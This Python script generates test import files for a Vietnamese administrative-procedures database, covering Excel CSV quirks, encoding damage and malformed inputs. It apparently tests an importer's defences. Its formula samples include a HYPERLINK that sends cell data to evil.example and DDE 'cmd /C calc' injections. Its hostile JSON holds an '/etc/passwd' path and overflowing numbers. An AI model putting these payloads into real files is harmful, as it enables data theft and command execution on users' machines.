"""Writes the import test files of this folder: procedures as offices save them
from the National Database of Administrative Procedures (CSDLQG) and Excel —
byte-order mark, CRLF, semicolons (Excel in a Vietnamese locale), cells with
line breaks, “Bước 1:” steps, dates as DD/MM/YYYY — and the ways such a file
goes wrong (Windows-1258, UTF-8 misread in Windows-1258 and saved again, or in
Windows-1252 and written as JSON escapes, UTF-16,
a workbook renamed .csv, NUL, a 200 KB cell, formulas, hostile JSON). The files
are committed so that anyone can open them; run
``python -m tests.data.import_files`` after changing this script.
"""

import csv
import io
import json
import unicodedata
from pathlib import Path

HERE = Path(__file__).resolve().parent
COLUMNS = [
    "code", "name", "field", "level", "procedure_type", "implementing_agency",
    "competent_authority", "delegated_agency", "coordinating_agency",
    "filing_address", "applicants", "result", "conditions", "description",
    "online_level", "online_url", "decision_number", "decision_date", "keywords",
    "posted_at_desk", "desk_checked_on", "status", "source_note", "steps",
    "channels", "dossier", "legal_bases",
]  # fmt: skip


def basis(number, summary, issued_on, issuer):
    return {
        "number": number,
        "summary": summary,
        "issued_on": issued_on,
        "issuer": issuer,
    }


LUAT_HO_TICH = basis("60/2014/QH13", "Luật Hộ tịch", "2014-11-20", "Quốc hội")
ND_123 = basis(
    "123/2015/NĐ-CP",
    "Nghị định quy định chi tiết một số điều và biện pháp thi hành Luật Hộ tịch",
    "2015-11-15",
    "Chính phủ",
)
FREE = "Miễn lệ phí đối với trường hợp đăng ký đúng hạn."

RECORDS = [
    {
        "code": "1.001193",
        "name": "Thủ tục đăng ký khai sinh",
        "field": "Hộ tịch",
        "level": "commune",
        "procedure_type": "TTHC được luật giao quy định chi tiết",
        "implementing_agency": "Ủy ban nhân dân cấp xã",
        "competent_authority": "Ủy ban nhân dân cấp xã",
        "filing_address": "Trung tâm Phục vụ hành chính công xã",
        "applicants": "Công dân Việt Nam",
        "result": "Giấy khai sinh (bản chính)",
        "conditions": "Cha, mẹ có trách nhiệm đăng ký khai sinh cho con trong thời "
        "hạn 60 ngày kể từ ngày sinh.\nNếu cha, mẹ không thể đăng ký thì ông, bà "
        "hoặc người thân thích khác đăng ký.",
        "online_level": "full",
        "decision_number": "2150/QĐ-UBND",
        "decision_date": "01/07/2025",  # Excel in Vietnam writes dates back so
        "keywords": ["làm giấy khai sinh", "khai sinh cho con"],
        "posted_at_desk": "TRUE",
        "desk_checked_on": "02/11/2025",
        # All the steps in one cell, as the national database shows them.
        "steps": [
            "Bước 1: Người yêu cầu nộp hồ sơ tại Bộ phận Một cửa.\n"
            "Bước 2: Công chức tiếp nhận kiểm tra hồ sơ; hồ sơ đầy đủ thì viết "
            "giấy tiếp nhận.\n"
            "Bước 3: Chủ tịch UBND xã ký cấp bản chính Giấy khai sinh."
        ],
        "channels": [
            {"kind": "direct", "processing_time": "Ngay trong ngày", "fee": FREE},
            {"kind": "online", "processing_time": "Ngay trong ngày", "fee": FREE},
        ],
        "dossier": [
            {"name": "Tờ khai đăng ký khai sinh theo mẫu", "originals": 1},
            {
                "case": "Trường hợp có Giấy chứng sinh",
                "name": "Bản chính Giấy chứng sinh",
                "originals": "1",
                "copies": "0",
            },
        ],
        "legal_bases": [LUAT_HO_TICH, ND_123],
    },
    {
        "code": "1.001022",
        "name": "Thủ tục đăng ký nhận cha, mẹ, con",
        "field": "Hộ tịch",
        "implementing_agency": "Ủy ban nhân dân cấp xã",
        "applicants": "Công dân Việt Nam",
        "result": "Trích lục đăng ký nhận cha, mẹ, con",
        "online_level": "partial",
        "keywords": ["đăng ký nhận cha, mẹ, con", "nhận con"],
        "posted_at_desk": "FALSE",
        "steps": [
            "Bước 1: Nộp tờ khai và chứng cứ chứng minh quan hệ cha, mẹ, con.",
            "Bước 2: Công chức tư pháp – hộ tịch kiểm tra, niêm yết 05 ngày làm việc.",
            "Bước 3: Ghi vào Sổ hộ tịch; cấp trích lục.",
        ],
        "channels": [
            {
                "kind": "direct",
                "processing_time": "03 ngày làm việc",
                "fee": "Miễn lệ phí",
                "fee_amount": 0,
            }
        ],
        "dossier": [{"name": "Tờ khai đăng ký nhận cha, mẹ, con theo mẫu"}],
        "legal_bases": [LUAT_HO_TICH],
    },
    {
        "code": "2.000815",
        "name": "Thủ tục chứng thực bản sao từ bản chính giấy tờ, văn bản",
        "field": "Chứng thực",
        "implementing_agency": "Ủy ban nhân dân cấp xã",
        "applicants": "Cá nhân, tổ chức",
        "result": "Bản sao được chứng thực từ bản chính",
        "description": "Áp dụng cho giấy tờ, văn bản do cơ quan có thẩm quyền của "
        "Việt Nam cấp.",
        "keywords": ["sao y", "công chứng bản sao"],
        "steps": ["Nộp bản chính và bản sao.", "Nhận bản sao đã chứng thực."],
        "channels": [
            {
                "kind": "direct",
                "processing_time": "Trong ngày",
                "fee": "2.000 đồng/trang",
                "fee_amount": 2000,
            }
        ],
        "dossier": [{"name": "Bản chính giấy tờ, văn bản", "originals": 1}],
        "legal_bases": [],
    },
]


def cells(record):
    """A record as Excel would hold it in cells (nested parts as JSON text)."""
    row = []
    for column in COLUMNS:
        value = record.get(column, "")
        if column == "keywords":
            value = "|".join(value)
        elif column in ("steps", "channels", "dossier", "legal_bases"):
            value = json.dumps(value, ensure_ascii=False)
        row.append(value)
    return row


def excel_csv(records, *, separator=";", blank_rows=True):
    """The text Excel writes: BOM, CRLF, cells quoted only when needed."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=separator, lineterminator="\r\n")
    writer.writerow(COLUMNS)
    for n, record in enumerate(records):
        if blank_rows and n == 1:
            writer.writerow([])  # a blank row left between two records
        writer.writerow(cells(record))
    if blank_rows:
        writer.writerow([""] * len(COLUMNS))  # Excel's trailing ";;;;" row
    return "\ufeff" + out.getvalue()


TONES = {"\u0300", "\u0301", "\u0303", "\u0309", "\u0323"}


def windows_1258(text):
    """Windows-1258 bytes: base letters precomposed (â, ơ, ư, đ …), tone marks
    combining, as that code page writes Vietnamese."""
    out = []
    for char in text:
        parts = unicodedata.normalize("NFD", char)
        base = unicodedata.normalize("NFC", "".join(c for c in parts if c not in TONES))
        out.append(base + "".join(c for c in parts if c in TONES))
    return "".join(out).encode("cp1258")


def misread(text, code_page="cp1258"):
    """``text`` as Excel in a Vietnamese Windows shows a CSV UTF-8 file without
    a byte-order mark: its UTF-8 bytes read in code page 1258 (a byte it leaves
    undefined as the control character of that number); or in ``code_page``."""
    out = []
    for byte in text.encode("utf-8"):
        try:
            out.append(bytes([byte]).decode(code_page))
        except UnicodeDecodeError:
            out.append(chr(byte))
    return "".join(out)


def workbook_bytes():
    from openpyxl import Workbook

    workbook = Workbook()
    workbook.active.append(COLUMNS)
    for record in RECORDS:
        workbook.active.append(cells(record))
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "description": "+cmd|' /C calc'!A0",
    "result": "-2+3",
    "source_note": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def _misread_texts(value):
    """``value`` with each of its texts read as Windows-1252 (``misread``)."""
    if isinstance(value, str):
        return misread(value, "cp1252")
    if isinstance(value, list):
        return [_misread_texts(item) for item in value]
    if isinstance(value, dict):
        return {key: _misread_texts(item) for key, item in value.items()}
    return value


def files():
    """File name → bytes."""
    good = excel_csv(RECORDS)
    nul = [dict(r) for r in RECORDS]
    nul[1]["implementing_agency"] = "Ủy ban nhân dân\x00 cấp xã"
    big = [dict(r) for r in RECORDS]
    big[0]["description"] = "Mô tả rất dài. " * 14_000  # about 210,000 characters
    formulas = [{**RECORDS[0], **FORMULAS}]
    passwd = [{"name": "Tờ khai", "form_file": "/etc/passwd"}]
    hostile = [
        {**RECORDS[0], "keywords": 5},
        {**RECORDS[1], "keywords": True},
        {**RECORDS[2], "dossier": [{"name": "Tờ khai", "originals": 1e400}]},
        {**RECORDS[0], "code": "1.000656", "dossier": passwd},
        {**RECORDS[1], "code": "1.000894", "name": "Thủ tục\u0000 đăng ký kết hôn"},
    ]
    return {
        "thu-tuc-excel-vn.csv": good.encode("utf-8"),
        "thu-tuc-dau-phay.csv": excel_csv(RECORDS, separator=",", blank_rows=False)
        .lstrip("\ufeff")
        .encode("utf-8"),
        "thu-tuc-cong-thuc.csv": excel_csv(formulas).encode("utf-8"),
        "thu-tuc-windows-1258.csv": windows_1258(good.lstrip("\ufeff")),
        "thu-tuc-cp1252.csv": "code;name\r\n1.001193;Khai sinh – ban sao\r\n".encode(
            "cp1252"
        ),
        # opened so, then saved again as “CSV UTF-8”
        "thu-tuc-mojibake.csv": (
            "\ufeff" + misread(excel_csv(RECORDS, separator=",").lstrip("\ufeff"))
        ).encode("utf-8"),
        # read as Windows-1252 by a script, then written by json.dumps, which
        # escapes every letter outside ASCII: "Th\u00e1\u00bb\u00a7 t\u00e1…"
        "thu-tuc-mojibake-escape.json": json.dumps(
            {"procedures": [_misread_texts(record) for record in RECORDS]}, indent=1
        ).encode("ascii"),
        "thu-tuc-unicode-text.csv": excel_csv(RECORDS, separator="\t")
        .lstrip("\ufeff")
        .encode("utf-16"),
        "thu-tuc-xlsx-doi-ten.csv": workbook_bytes(),
        "thu-tuc-nul.csv": excel_csv(nul).encode("utf-8"),
        "thu-tuc-o-200kb.csv": excel_csv(big).encode("utf-8"),
        "thu-tuc-chi-tieu-de.csv": excel_csv([], blank_rows=False).encode("utf-8"),
        "thu-tuc-ngoac-long.json": (
            '{"procedures": [' + "[" * 100_000 + "]" * 100_000 + "]}"
        ).encode(),
        "thu-tuc-json-xau.json": json.dumps({"procedures": hostile}, ensure_ascii=False)
        .replace("1e+400", "1e400")
        .replace("Infinity", "1e400")
        .encode("utf-8"),
    }


if __name__ == "__main__":
    for name, content in files().items():
        (HERE / name).write_bytes(content)
        print(f"{name}: {len(content):,} bytes")
